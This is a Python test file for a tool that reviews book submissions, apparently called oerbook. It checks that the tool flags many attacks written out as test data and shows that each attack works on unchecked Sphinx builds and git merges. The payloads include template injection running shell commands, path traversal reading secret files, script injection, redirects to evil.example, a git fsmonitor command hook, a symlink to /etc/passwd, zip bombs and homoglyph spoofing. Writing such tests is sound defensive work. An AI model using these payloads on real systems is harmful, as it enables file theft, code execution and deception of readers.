"""Submissions by strangers: each attack works on an unguarded build, and is found before anybody takes it in."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ElementTree
import zipfile
from dataclasses import dataclass
from html import unescape
from pathlib import Path
from typing import Any

import pytest
import yaml
from PIL import Image

from oerbook.cli.output import ProgressBars
from oerbook.git import process as adapter
from oerbook.sandbox.fork import Limits
from oerbook.tasks.submissions.review import ReviewLimits, ReviewRequest, review
from tests.conftest import INDEX, oerbook, write
from tests.support.repository import begin, commit, git, heavy

pytestmark = pytest.mark.slow
SECRET = "hush-b7e1"
SOIL = " ".join(f"Sentence {n} tells of soil and of the {n} creatures in it." for n in range(30))
WORDS = " ".join(f"Another text says thing {n} about something else." for n in range(40))
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
ADA = "---\nname: Ada Lee\norcid: 0000-0002-1825-0097\ngithub: adal\nidentities: [A. Lee]\n---\n\nShe digs.\n"
BASE = {
    "conf.py": 'extensions = ["oerbook"]\n',
    "chapters/index.md": INDEX,
    "chapters/01-soil.md": f"---\nauthors: [ada-lee]\n---\n\n# Soil\n\n{SOIL}\n\n![Layers of soil](soil.svg)\n",
    "chapters/02-water.md": f"---\nlicense: CC-BY-SA-4.0\nauthors: [ada-lee, bo]\nsources:\n  - title: Rivers\n"
    f"    license: CC-BY-4.0\n---\n\n# Water\n\n{SOIL.replace('soil', 'water')}\n",
    "chapters/03-air.md": f"# Air\n\n{' '.join(f'Air blows {n} times round those {n} hills.' for n in range(30))}\n",
    "chapters/04-fire.md": f"# Fire\n\n{SOIL.replace('soil', 'fire')}\n",
    "chapters/soil.svg": SVG.format(""),
    "chapters/map.png": b"\x89PNG a map",
    "chapters/works.bib": "@book{lee, title={Soil}, author={Lee, Ada}, year=2001, url={https://good.example/}}\n",
    "chapters/more.bib": "@book{berg, title={Sails}, author={Berg, Bo}, year=2002}\n",
    "contributors/ada-lee.md": ADA,
    "contributors/bo.md": "---\nname: Bo Berg\n---\n\nHe sails.\n",
}  # fmt: skip


WHO = {f"GIT_{role}_{key}": "eve" for role in ("AUTHOR", "COMMITTER") for key in ("NAME", "EMAIL")}


@dataclass(frozen=True)
class Attack:
    """A page of a stranger: its text, what of it shows on an unguarded site, and the finding that gives it away."""

    text: str
    shows: str
    code: str


SHELL = "{{ cycler.__init__.__globals__.os.popen('echo ran-$((6*7))').read() }}"
PAGES = {
    "include-up": Attack("```{include} ../../secret.txt\n```", SECRET, "file-outside-book"),
    "literalinclude": Attack("```{literalinclude} ../../secret.txt\n```", SECRET, "file-outside-book"),
    "git-config": Attack("```{literalinclude} ../.git/config\n```", "repositoryformatversion", "file-outside-book"),
    "csv-path": Attack("```{csv-table} t\n:file: SECRET\n```", SECRET, "include-missing"),
    "csv-up": Attack("```{csv-table} t\n:file: ../../secret.txt\n```", SECRET, "file-outside-book"),
    "csv-url": Attack("```{csv-table} t\n:url: file://SECRET\n```", SECRET, "file-outside-book"),
    "raw-file": Attack("```{raw} html\n:file: SECRET\n```", SECRET, "include-missing"),
    "raw-url": Attack("```{raw} html\n:url: file://SECRET\n```", SECRET, "file-outside-book"),
    "rst-include": Attack("```{eval-rst}\n.. include:: ../../secret.txt\n```", SECRET, "file-outside-book"),
    "rst-csv": Attack("```{eval-rst}\n.. csv-table:: x\n   :file: SECRET\n```", SECRET, "include-missing"),
    "rst-raw": Attack("```{eval-rst}\n.. raw:: html\n   :file: SECRET\n```", SECRET, "include-missing"),
    "rst-literal": Attack("```{eval-rst}\n.. literalinclude:: ../../secret.txt\n```", SECRET, "file-outside-book"),
    "download": Attack("{download}`../../secret.txt`", "_downloads/", "file-outside-book"),
    "link-to-file": Attack("[x](../../secret.txt)", "_downloads/", "file-outside-book"),
    "link-encoded": Attack("[y](%2e%2e/%2e%2e/secret.txt)", "_downloads/", "file-outside-book"),
    "link-path": Attack("[z](path:../../secret.txt)", "_downloads/", "file-outside-book"),
    "picture-up": Attack("![x](../../secret.svg)", "_images/secret.svg", "file-outside-book"),
    "figure-up": Attack("```{figure} ../../secret.svg\n:alt: a thing\nWords\n```", "_images/secret.svg", "file-outside-book"),
    "jinja": Attack(SHELL, "ran-42", "substitution"),
    "jinja-front": Attack(f'---\nmyst:\n  substitutions:\n    a: "{SHELL}"\n---\n\n# T\n\n{{{{ a }}}}', "ran-42", "substitution"),
    "script": Attack("<script>alert(1)</script> and", "<script>alert(1)", "html-script"),
    "script-block": Attack("<div>\n<script>\nalert(1)\n</script>\n</div>", "<script>\nalert(1)", "html-script"),
    "handler": Attack("<img src=x onerror=alert(1)>", "onerror=alert(1)", "image-missing"),
    "handler-inline": Attack("a <b onclick=alert(1)>x</b>", "onclick=alert(1)", "html-script"),
    "raw-script": Attack("```{raw} html\n<script>alert(1)</script>\n```", "<script>alert(1)", "html-script"),
    "rst-script": Attack("```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```", "<script>alert(1)", "html-script"),
    "frame": Attack("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "srcdoc=", "html-script"),
    "object": Attack("<object data='javascript:alert(1)'></object>", "<object data='java", "html-script"),
    "form": Attack("<form action='https://evil.example/'><input name=p></form>", "<form action='https://evil", "html-script"),
    "refresh": Attack('<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'http-equiv="refresh"', "html-script"),
    "rst-refresh": Attack("```{eval-rst}\n.. meta::\n   :http-equiv=refresh: 0;url=https://evil.example/\n```", 'http-equiv="refresh"', "html-script"),
    "base": Attack("<base href='https://evil.example/'>", "<base href='https://evil", "html-script"),
    "style": Attack("<style>@import 'https://evil.example/x.css'</style>", "@import", "html-script"),
    "loosened": Attack("---\nmyst:\n  disable_syntax: []\n---\n\n# T\n\n<script>alert(1)</script>", "<script>alert", "html-script"),
    "html-link": Attack("<a href='javascript:alert(1)'>y</a>", "href='javascript:alert", "html-script"),
    "target": Attack("```{image} soil.svg\n:target: javascript:alert(1)\n:alt: x y\n```", "javascript:alert", "link-scheme"),
    "rst-target": Attack("```{eval-rst}\n`x <javascript:alert(1)>`__\n```", "javascript:alert", "link-scheme"),
    "data-picture": Attack("![x](evil.svg)", "_images/evil.svg", "svg-script"),
    "formula": Attack("$\\input{SECRET}$", "\\input{", "math"),
    "bidi": Attack("access = \u202e 'user' \u2066// admin\u2069", "\u202e", "bidi-character"),
    "terminal": Attack("a \x1b]0;owned\x07 b \x1b[2J c", "\x1b[2J", "control-character"),
    "tags": Attack("a\U000e0041\U000e0042 b", "\U000e0041", "invisible-character"),
    "lookalike-word": Attack("Send it to pаypal today.", "pаypal", "mixed-script"),
    "lookalike-site": Attack("[My bank](https://bаnk.example/)", "xn--|bаnk", "link-text-mismatch"),
    "user-in-address": Attack("[My bank](https://bank.example@evil.example/)", "bank.example@evil", "link-text-mismatch"),
    "two-addresses": Attack("[https://bank.example](https://evil.example/)", "https://evil.example/", "link-text-mismatch"),
    "copied": Attack(SOIL, "Sentence 29 tells", "text-copied"),
    "template": Attack("[Replace this: your text]", "Replace this", "placeholder"),
    "yaml-alias": Attack("---\na: &a [1, 2]\nb: *a\n---\n\n# T", "<h1>T", "front-matter"),
}  # fmt: skip
ENTITIES = '<!DOCTYPE svg [<!ENTITY a "AAAAAAAAAA">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcd", "bcde", strict=True)
)


def archive(name: str, content: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(name, content)
    return made.getvalue()


BOMB = archive("word/document.xml", bytes(250_000_000))
FILES: dict[str, tuple[Any, str]] = {
    ".mailmap": ("Eve <eve@example.org> Ada Lee <ada.lee@example.org>\n", "credit-config-changed"),
    ".git-blame-ignore-revs": ("0" * 40 + "\n", "credit-config-changed"),
    ".github/workflows/run.yml": ("on: push\n", "path-not-allowed"),
    "conf.py": ("import pathlib; pathlib.Path('/tmp/x')\n", "path-not-allowed"),
    "sitecustomize.py": ("print(1)\n", "path-not-allowed"),
    "docutils.conf": ("[general]\nfile_insertion_enabled: on\n", "path-not-allowed"),
    "README.md": ("Hello\n", "path-not-allowed"),
    "chapters/docutils.conf": ("[general]\nraw_enabled: on\n", "file-type"),
    "chapters/conftest.py": ("print(1)\n", "file-type"),
    "chapters/evil.html": ("<script>alert(1)</script>", "file-type"),
    "chapters/evil.js": ("alert(1)", "file-type"),
    "chapters/data/HEAD": ("ref: refs/heads/main\n", "file-type"),
    "chapters/data/config": ("[core]\nfsmonitor = touch x\n", "file-type"),
    "chapters/.gitattributes": ("* filter=evil\n", "path-hidden"),
    "chapters/_templates/layout.html": ("{{ 1 }}", "path-hidden"),
    "contributors/eve.py": ("print(1)\n", "file-type"),
    "chapters/90-link.md": (("120000", "../../secret.txt"), "file-symlink"),
    "chapters/90-passwd.svg": (("120000", "/etc/passwd"), "file-symlink"),
    "chapters/lib": (("160000", ""), "submodule"),
    "chapters/91-run.md": (("100755", "# Run\n\nText.\n"), "file-executable"),
    "chapters/con.md": ("# Con\n\nText.\n", "name-unportable"),
    "chapters/a:b.md": ("# Colon\n\nText.\n", "name-unportable"),
    "chapters/dot.md.": ("# Dot\n\nText.\n", "name-unportable"),
    "chapters/" + "long" * 40 + ".md": ("# Long\n\nText.\n", "name-unportable"),
    "chapters/92-\u202egpj.md": ("# Bidi\n\nText.\n", "name-invisible-character"),
    "chapters/93-\x1b[2J.md": ("# Esc\n\nText.\n", "name-invisible-character"),
    "chapters/94-zero\u200bwidth.md": ("# Zero\n\nText.\n", "name-invisible-character"),
    "chapters/01-ѕоіl.md": ("# Other soil\n\nText.\n", "name-lookalike"),
    "chapters/03-AIR.md": ("# Other air\n\nText.\n", "name-clash"),
    "chapters/evil.svg": (SVG.format("<script>alert(1)</script>"), "svg-script"),
    "chapters/handler.svg": (SVG.format("<g onload='alert(1)'/>"), "svg-script"),
    "chapters/outward.svg": (SVG.format("<image xlink:href='https://evil.example/x'/>"), "svg-script"),
    "chapters/styled.svg": (SVG.format("<style>@import 'https://evil.example/x.css';</style>"), "svg-script"),
    "chapters/led.svg": (SVG.format("<a href='java&#9;script:alert(1)'><text>x</text></a>"), "svg-script"),
    "chapters/entities.svg": (ENTITIES + "]>" + SVG.format("<text>&e;</text>"), "svg-script"),
    "chapters/large.pdf": (bytes(21_000_000), "file-large"),
    "chapters/bomb.docx": (BOMB, "archive-unsafe"),
    "chapters/slip.docx": (archive("../../slip", b"x"), "archive-unsafe"),
    "chapters/96-bomb.ipynb": ("[" * 100_000, "chapter-unreadable"),
    "chapters/97-deep.md": ("---\na: " + "[" * 30_000 + "\n---\n\n# Deep\n\nText.\n", "front-matter"),
    "chapters/98-nul.md": (b"# Nul\x00\n", "chapter-unreadable"),
    "chapters/04-fire.md": (None, "chapter-removed"),
    "chapters/soil.svg": (None, "figure-removed"),
    "chapters/03-air.md": (f"# Air\n\n{WORDS}\n", "chapter-rewritten"),
    "contributors/bo.md": (None, "contributor-removed"),
    "chapters/map.png": (b"\x89PNG another map", "figure-replaced"),
    "chapters/works.bib": (
        "@book{lee, title={Soil}, author={Lee, Ada}, year=2001, url={https://evil.example/}}\n",
        "bibliography-entry-changed",
    ),
    "chapters/more.bib": ("@book{other, title={Sails}, author={Eve}, year=2002}\n", "bibliography-entry-removed"),
    "contributors/eve5.md": ("---\nname: Old Timer\n---\n\nMe.\n", "identity-claimed"),
    "contributors/ada-lee.md": (ADA.replace("adal", "evil"), "contributor-not-own"),
    "contributors/eve.md": ("---\nname: Ada Lee\n---\n\nMe.\n", "identity-claimed"),
    "contributors/eve2.md": ("---\nname: Eve\norcid: 0000-0002-1825-0097\n---\n\nMe.\n", "identity-claimed"),
    "contributors/eve3.md": ("---\nname: Аdа Lee\n---\n\nMe.\n", "identity-claimed"),
    "contributors/eve4.md": ("---\nname: Eva\nidentities: [A. Lee]\n---\n\nMe.\n", "identity-claimed"),
}
WATER = (
    BASE["chapters/02-water.md"]
    .replace("CC-BY-SA-4.0", "CC0-1.0")
    .replace(", bo]", ", eve]")
    .replace("title: Rivers", "title: X")
)
CHANGED = {"license-changed", "author-removed", "author-added", "source-removed"}


@dataclass(frozen=True)
class Tried:
    """One book, one submission with every attack: the unguarded site, and what the check says."""

    root: Path
    site: Path
    merged: Path
    findings: list[dict[str, Any]]
    code: int
    text: str

    def at(self, path: str) -> set[str]:
        return {f["code"] for f in self.findings if f["path"] == path}


def name_of(attack: str) -> str:
    return f"chapters/5{list(PAGES).index(attack):02}-{attack}.md"


@pytest.fixture(scope="module")
def tried(tmp_path_factory: pytest.TempPathFactory) -> Tried:
    folder = tmp_path_factory.mktemp("submission")
    secret = folder / "secret.txt"
    secret.write_text(SECRET)
    (folder / "secret.svg").write_text(SVG.format(SECRET))
    root = folder / "book"
    begin(root, BASE)
    commit(root, "main", {"chapters/07-old.md": f"# Old\n\n{SOIL.replace('soil', 'age')}\n"}, "Old Timer")
    pages = {}
    for name, attack in PAGES.items():
        text = attack.text.replace("SECRET", str(secret))
        pages[name_of(name)] = text if "# T" in text else f"# {name}\n\n{text}\n"
    files = {name: content for name, (content, _code) in FILES.items()}
    commit(root, "eve", {**pages, **files, "chapters/02-water.md": WATER}, "Eve")
    git(root, "symbolic-ref", "HEAD", "refs/heads/eve")
    ran = oerbook("check", "--base", "main", "--format", "json", "-C", root)
    text = oerbook("check", "--base", "main", "-v", "-C", root)
    assert text.code == ran.code, text.err
    return Tried(
        root,
        plain_site(folder, root),
        plain_merge(folder, root),
        json.loads(ran.out)["findings"],
        ran.code,
        text.out + text.err,
    )


def plain_merge(folder: Path, root: Path) -> Path:
    """Merge the submission as git does for an editor who only looks at conflicts; return the work tree."""
    merged = folder / "merged"
    git(folder, "clone", "-q", "-c", "core.protectNTFS=false", "-b", "main", str(root), str(merged))
    who = {**WHO, "GIT_COMMITTER_DATE": "1760000001 +0000"}
    git(merged, "merge", "-q", "--no-edit", "--no-ff", "origin/eve", **who)
    return merged


def plain_site(folder: Path, root: Path) -> Path:
    """Build what the submission holds with Sphinx as people set it up, and return the site."""
    git(root, "config", "core.protectNTFS", "false")
    open_book = folder / "open"
    git(folder, "clone", "-q", "-c", "core.protectNTFS=false", "-b", "eve", str(root), str(open_book))
    for name in ("97-deep.md", "96-bomb.ipynb", "98-nul.md"):
        (open_book / "chapters" / name).unlink()
    (open_book / "chapters/conf.py").write_text(
        "extensions = ['myst_parser']\nroot_doc = 'index'\n"
        "myst_enable_extensions = ['colon_fence', 'dollarmath', 'substitution']\n"
    )
    (open_book / "chapters/docutils.conf").unlink()
    command = [sys.executable, "-m", "sphinx", "-q", "-b", "html", "chapters", "site"]
    done = subprocess.run(command, cwd=open_book, capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-2000:]
    return open_book / "site"


@pytest.mark.parametrize("name", PAGES)
def test_an_attack_in_a_page_is_reported(tried: Tried, name: str) -> None:
    attack = PAGES[name]
    page = (tried.site / name_of(name)).with_suffix("")
    html = (tried.site / f"{page.name}.html").read_text(encoding="utf-8")
    seen = unescape(html + re.sub(r"<[^>]*>", "", html))
    assert any(sign in seen for sign in attack.shows.split("|")), "the attack does not work on an unguarded build"
    assert attack.code in tried.at(name_of(name))


def taken_in(tried: Tried, path: str) -> bool:
    """Say whether git, merging the submission as people do, takes a file in (or out) exactly as the stranger wants it."""
    content = FILES[path][0]
    row = git(tried.merged, "ls-tree", "-z", "HEAD", "--", path).strip("\0")
    if content is None:
        return not row
    mode, body = content if isinstance(content, tuple) else ("100644", content)
    kept = row.split()[0] if row else ""
    if mode != "100644" or body == "":
        return kept == mode
    raw = body if isinstance(body, bytes) else body.encode()
    return kept == mode and row.split()[2].startswith(
        git(tried.merged, "hash-object", "--no-filters", "--stdin", source=raw)
    )


@pytest.mark.parametrize("path", FILES)
def test_a_forbidden_file_in_a_submission_is_reported(tried: Tried, path: str) -> None:
    assert taken_in(tried, path), "git on its own would not take it"
    assert FILES[path][1] in tried.at(path)


def test_forbidden_files_do_harm_when_git_merges_them_unchecked(tried: Tried) -> None:
    """Of each kind of file one: it reads, runs, deceives or exhausts where nobody looks at it first."""
    merged = tried.merged
    assert git(merged, "log", "--use-mailmap", "--format=%aN", "--max-parents=0", "main") == "Eve"  # Ada's commit
    assert (merged / "chapters/90-passwd.svg").read_bytes() == Path("/etc/passwd").read_bytes()
    assert os.access(merged / "chapters/91-run.md", os.X_OK)
    shown = subprocess.run(["ls", "-N", "chapters"], cwd=merged, capture_output=True, text=True).stdout
    assert "\x1b[2J" in shown and "\u202e" in shown and "\u200b" in shown
    assert "01-ѕоіl.md" in shown and "01-soil.md" in shown
    with pytest.raises(RecursionError):
        json.loads((merged / "chapters/96-bomb.ipynb").read_text())
    with pytest.raises(RecursionError):
        yaml.safe_load((merged / "chapters/97-deep.md").read_text().split("---")[1])
    with zipfile.ZipFile(merged / "chapters/bomb.docx") as bomb:
        assert len(bomb.read("word/document.xml")) > 100 * (merged / "chapters/bomb.docx").stat().st_size
    data = merged / "chapters/data"
    assert (
        "fsmonitor"
        in subprocess.run(["git", "config", "-f", "config", "--list"], cwd=data, capture_output=True, text=True).stdout
    )
    ran = subprocess.run([sys.executable, "-c", "import sitecustomize"], cwd=merged, capture_output=True, text=True)
    assert ran.stdout.strip() == "1"


def test_a_changed_fact_of_a_chapter_is_reported(tried: Tried) -> None:
    assert tried.at("chapters/02-water.md") >= CHANGED


def test_attacks_that_the_check_rejects_work_in_plain_sphinx(tried: Tried) -> None:
    assert SECRET in (tried.site / "90-link.html").read_text()
    downloads = b"".join(p.read_bytes() for p in tried.site.rglob("_downloads/**/*") if p.is_file())
    assert SECRET.encode() in downloads
    assert git(tried.site.parent, "log", "--use-mailmap", "--format=%aN", "--max-parents=0", "origin/main") == "Eve"
    assert len("".join(ElementTree.fromstring(FILES["chapters/entities.svg"][0]).itertext())) == 100_000


def test_the_check_rejects_a_submission_and_changes_no_file(tried: Tried) -> None:
    assert tried.code == 1
    assert SECRET not in tried.text
    assert "\x1b" not in tried.text
    assert "\u202e" not in tried.text
    assert [p.name for p in tried.root.iterdir() if p.name not in (".git", "_build")] == []


def test_small_changes_to_the_text_of_others_are_shown_in_both_wordings(tmp_path: Path) -> None:
    root = tmp_path / "book"
    begin(root, BASE)
    worse = BASE["chapters/01-soil.md"].replace("Sentence 3 tells", "Sentence 3 never tells @all <b>")
    commit(root, "eve", {"chapters/01-soil.md": worse}, "Eve")
    git(root, "symbolic-ref", "HEAD", "refs/heads/eve")
    (wording,) = oerbook("check", "--base", "main", "--format", "json", "-C", root).findings("wording-changed")
    line = worse.split("\n").index(next(row for row in worse.split("\n") if "never tells" in row)) + 1
    assert wording["line"] == line and wording["severity"] == "info"
    old, new = wording["message"].split("” to “")
    assert "Sentence 3 tells" in old and "Sentence 3 never tells @all <b>" in new
    comment = oerbook("check", "--base", "main", "--format", "markdown", "-C", root).out
    assert "never tells \\@\u2060all \\<b\\>" in comment  # shown as text, and nobody is called


def test_a_submission_with_a_new_chapter_and_a_small_correction_passes(tmp_path: Path) -> None:
    root = tmp_path / "book"
    begin(root, {**BASE, "chapters/05-old.md": "# Old\n\n![](missing.png)\n\n### Deep\n\nText\n"})
    mine = {"chapters/05-mine.md": f"# Mine\n\n{WORDS}\n", "contributors/cy.md": "---\nname: Cy\n---\n\nNew here.\n"}
    better = BASE["chapters/01-soil.md"].replace("Sentence 3 tells", "The third sentence tells")
    commit(root, "cy", {**mine, "chapters/01-soil.md": better}, "Cy")
    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
    ran = oerbook("check", "--base", "main", "--strict", "--format", "json", "-C", root)
    assert ran.code == 0, ran.out + ran.err
    report = json.loads(ran.out)
    assert {f["code"] for f in report["findings"]} == {"chapter-changed", "wording-changed", "number-duplicate"}
    assert {"image-missing", "heading-skip"} <= {f["code"] for f in report["before"]}


def test_people_can_change_their_own_figures_files_and_chapters(tmp_path: Path) -> None:
    """A figure that one brought, a file about oneself that an editor wrote, a co-author for one's own chapter."""
    root = tmp_path / "book"
    begin(root, BASE)
    commit(root, "bo", {"chapters/sail.png": b"PNG 1", "chapters/08-sail.md": f"# Sails\n\n{WORDS}\n"}, "Bo Berg")
    git(root, "update-ref", "refs/heads/main", "bo")
    mine = {
        "chapters/sail.png": b"PNG 2",
        "chapters/08-sail.md": f"---\nauthors: [bo, ada-lee]\n---\n\n# Sails\n\n{WORDS}\n",
        "contributors/bo.md": "---\nname: Bo Berg\n---\n\nHe sails and sings.\n",
        "chapters/more.bib": BASE["chapters/more.bib"].replace("year", "publisher={P}, year"),
        "chapters/more2.bib": "@book{new, title={T}, author={A B}, year=2003}\n",
    }
    commit(root, "bo", mine, "Bo Berg")
    git(root, "symbolic-ref", "HEAD", "refs/heads/bo")
    ran = oerbook("check", "--base", "main", "--format", "json", "-C", root)
    assert ran.code == 0, ran.out
    said = {(f["code"], f["path"]) for f in ran.report["findings"]}
    assert said >= {
        ("figure-changed", "chapters/sail.png"),
        ("contributor-changed", "contributors/bo.md"),
        ("bibliography-entry-changed", "chapters/more.bib"),
    }


def test_one_commit_to_a_persons_file_gives_no_right_to_change_it(tmp_path: Path) -> None:
    """Eve mended a comma in Bo's file, which an editor took in; now she would take his account."""
    root = tmp_path / "book"
    begin(root, BASE)
    commit(root, "main", {"contributors/bo.md": "---\nname: Bo Berg\n---\n\nHe sails!\n"}, "Eve")
    commit(root, "eve", {"contributors/bo.md": "---\nname: Bo Berg\ngithub: eve\n---\n\nHe sails!\n"}, "Eve")
    forged = {"contributors/bo.md": "---\nname: Bo Berg\nwebsite: https://evil.example\n---\n\nHe sails!\n"}
    commit(root, "main", {"chapters/08-sail.md": f"# Sails\n\n{WORDS}\n"}, "Bo Berg")
    commit(root, "forged", forged, "Bo  Berg")  # the name as people read it, from another address
    for branch in ("eve", "forged"):
        git(root, "symbolic-ref", "HEAD", f"refs/heads/{branch}")
        ran = oerbook("check", "--base", "main", "--format", "json", "-C", root)
        assert ran.findings("contributor-not-own"), branch


def test_dividing_a_chapter_is_no_rewriting(tmp_path: Path) -> None:
    root = tmp_path / "book"
    first, second = WORDS, " ".join(f"The second half says {n} other things about stones." for n in range(40))
    begin(root, {**BASE, "chapters/05-all.md": f"# All\n\n{first}\n\n![](gone.png)\n\n## More\n\n{second}\n"})
    halves = {
        "chapters/05-all.md": f"# All\n\n{first}\n",
        "chapters/06-more.md": f"# More\n\n{second}\n\n![](gone.png)\n",
    }
    named = (
        "Di Fay <d@x.org>",
        "bee <7+bee@users.noreply.github.com>",
        "dependabot[bot] <1+dependabot[bot]@users.noreply.github.com>",
    )
    halves["contributors/bea.md"] = "---\nname: Bea Orr\ngithub: Bee\n---\n\nBea teaches.\n"
    commit(root, "cy", halves, "Cy Orr", "Divide\n\n" + "\n".join(f"Co-authored-by: {one}" for one in named))
    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
    report = json.loads(oerbook("check", "--base", "main", "--format", "json", "-C", root).out)
    assert {f["code"] for f in report["findings"]} == {
        "chapter-changed",
        "contributor-file-missing",
        "credit-claimed",
    }
    unknown = [(f["message"], f["hint"]) for f in report["findings"] if f["code"] == "contributor-file-missing"]
    assert [words.partition(" and ")[0] for words, _hint in unknown] == [
        "Cy Orr wrote 1 commit",
        "Di Fay is named as an author",
    ]
    assert "Add contributors/cy-orr.md with three lines: ---, name: Cy Orr, ---." in unknown[0][1]
    assert "image-missing" in {f["code"] for f in report["before"]}


def test_a_page_beside_the_contents_is_not_rewritten_by_one_word(tmp_path: Path) -> None:
    root = tmp_path / "book"
    page = f"---\norphan: true\n---\n\n# Help\n\n{WORDS}\n"
    begin(root, {**BASE, "chapters/help.md": page})
    commit(root, "cy", {"chapters/help.md": page.replace("thing 7", "matter 7")}, "Cy")
    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
    report = json.loads(oerbook("check", "--base", "main", "--format", "json", "-C", root).out)
    assert {f["code"] for f in report["findings"]} == {"chapter-changed", "wording-changed", "contributor-file-missing"}


def test_an_editor_can_allow_a_finding_by_its_code(tmp_path: Path) -> None:
    root = tmp_path / "book"
    begin(root, BASE)
    commit(root, "cy", {"chapters/04-fire.md": None}, "Cy")
    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
    assert oerbook("check", "--base", "main", "-C", root).code == 1
    assert oerbook("check", "--base", "main", "--allow", "chapter-removed", "-C", root).code == 0


def test_check_hints_at_uncommitted_changes_and_misspelled_options(tmp_path: Path) -> None:
    root = tmp_path / "book"
    begin(root, BASE)
    git(root, "reset", "-q", "--hard")
    (root / "chapters" / "05-new.md").write_text("# New\n\n[Replace this: words]\n")
    assert "nothing to check. Commit your changes first" in oerbook("check", "-C", root, "--base", "main").err
    assert oerbook("check", "-C", root, "--base", "").code == 1
    commit(root, "fork", {"Makefile": "all:\n", "chapters/05-new.md": "# New\n\nSome words.\n"}, "Eve Moss")
    git(root, "checkout", "-q", "-f", "fork")
    ran = oerbook("check", "-C", root, "--base", "main", "--allow", "path-not-allowe", "chapters/05-new.md")
    assert (
        ran.code == 0
        and "--allow path-not-allowe: no finding has this code" in ran.err
        and "Commit your changes" not in ran.err
    )
    assert (
        "did you mean path-not-allowed?"
        in oerbook("check", "-C", root, "--base", "main", "--allow", "path-not-allowe").err
    )
    assert "Did you mean chapters/05-new.md?" in oerbook("check", "-C", root, "chapters/5-new.md").err
    git(root, "checkout", "-q", "--orphan", "alone")
    git(root, "-c", "user.name=X", "-c", "user.email=x@x.org", "commit", "-qm", "alone")
    ran = oerbook("check", "-C", root, "--base", "main", "--format", "json")
    assert [row["code"] for row in json.loads(ran.out)["findings"]] == ["branch-unrelated"]


def test_a_submission_cannot_loosen_the_policy(tmp_path: Path) -> None:
    root = tmp_path / "book"
    begin(root, BASE)
    loose = INDEX.replace(
        "date:", "execute: true\nembeds: [evil.example]\nsubmissions:\n  allow: [chapter-removed]\ndate:"
    )
    commit(root, "cy", {"chapters/index.md": loose, "chapters/04-fire.md": None}, "Cy")
    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
    ran = oerbook("check", "--base", "main", "--format", "json", "-C", root)
    assert {"book-metadata-changed", "chapter-removed"} <= {
        f["code"] for f in ran.report["findings"] if f["severity"] == "error"
    }
    assert "embeds" in ran.findings("book-metadata-changed")[0]["message"]


def test_a_book_may_ask_for_a_sign_off(tmp_path: Path) -> None:
    root = tmp_path / "book"
    begin(root, {**BASE, "chapters/index.md": INDEX.replace("date:", "submissions:\n  sign_off: true\ndate:")})
    text = {"chapters/05-mine.md": f"# Mine\n\n{WORDS}\n"}
    commit(root, "cy", text, "Cy")
    signed = "A change\n\nSigned-off-by: Cy <cy@example.org>"
    commit(root, "di", text, "Cy", signed)
    for branch, code in (("cy", 1), ("di", 0)):
        git(root, "symbolic-ref", "HEAD", f"refs/heads/{branch}")
        ran = oerbook("check", "--base", "main", "--format", "json", "-C", root)
        assert (ran.code, bool(ran.findings("sign-off-missing"))) == (code, bool(code))


def judged(tmp_path: Path, files: Any, limits: Limits, patience: float) -> set[tuple[str, str]]:
    root = tmp_path / "book"
    begin(root, BASE)
    git(root, "branch", "eve")
    commit(root, "eve", files, "Eve")
    review(root, tmp_path / "out", ReviewRequest("main", "main"), ProgressBars(quiet=True))
    found = review(
        root, tmp_path / "out", ReviewRequest("main", "eve", ReviewLimits(limits, patience)), ProgressBars(quiet=True)
    )
    return {(f.code, f.place.path) for f in found.new}


def slow_page() -> str:
    return "# Slow\n\n" + "\\begin{equation}\na\n\n" * 20_000


def test_a_page_that_takes_too_long_is_named(tmp_path: Path) -> None:
    found = judged(tmp_path, {"chapters/60-slow.md": slow_page(), ".mailmap": "x"}, Limits(), 1)
    assert {("chapter-unreadable", "chapters/60-slow.md"), ("credit-config-changed", ".mailmap")} <= found


LISTS = {
    "no style": ":style: nobody",
    "a pattern that is none": ':filter: author % "("',
    "a pattern that does not end": ':filter: title % "(a+)+$"',
    "what cannot be compared": ":filter: year < 1990",
}
AAA = f"@book{{aaa, title={{{'a' * 60}!}}, author={{Lee, Ada}}, year=2001}}\n"


@pytest.mark.parametrize("name", LISTS)
def test_an_invalid_list_of_works_breaks_the_build_of_plain_sphinx(tmp_path: Path, name: str) -> None:
    page = f"# A\n\n```{{bibliography}}\n{LISTS[name]}\n```\n"
    conf = "extensions = ['myst_parser', 'sphinxcontrib.bibtex']\nroot_doc = 'index'\nbibtex_bibfiles = ['a.bib']\n"
    write(tmp_path, {"index.md": "# Book\n", "a.md": page, "a.bib": AAA, "conf.py": conf})
    command = ["timeout", "10", sys.executable, "-m", "sphinx", "-q", "-b", "html", ".", "site"]
    assert subprocess.run(command, cwd=tmp_path, capture_output=True).returncode != 0
    assert not (tmp_path / "site/index.html").exists()


def test_a_list_of_works_that_cannot_be_made_is_named(tmp_path: Path) -> None:
    pages = {
        f"chapters/6{n}-list.md": f"# List {n}\n\n{WORDS}\n\n```{{bibliography}}\n{asked}\n:keyprefix: k{n}\n```\n"
        for n, asked in enumerate(LISTS.values())
    }
    found = judged(tmp_path, {**pages, "chapters/aaa.bib": AAA}, Limits(), 2)
    assert {("directive-option", path) for path in pages} <= found
    assert not {code for code, _path in found} & {"submission-unreadable", "chapter-unreadable"}


def test_a_submission_that_takes_too_long_is_stopped(tmp_path: Path) -> None:
    files = {"chapters/60-slow.md": slow_page(), ".mailmap": "x"}
    found = judged(tmp_path, files, Limits(wall_s=30, cpu_s=4), 0)
    assert {("submission-unreadable", "chapters"), ("credit-config-changed", ".mailmap")} <= found


def test_a_picture_that_takes_too_much_memory_is_named(tmp_path: Path) -> None:
    picture = io.BytesIO()
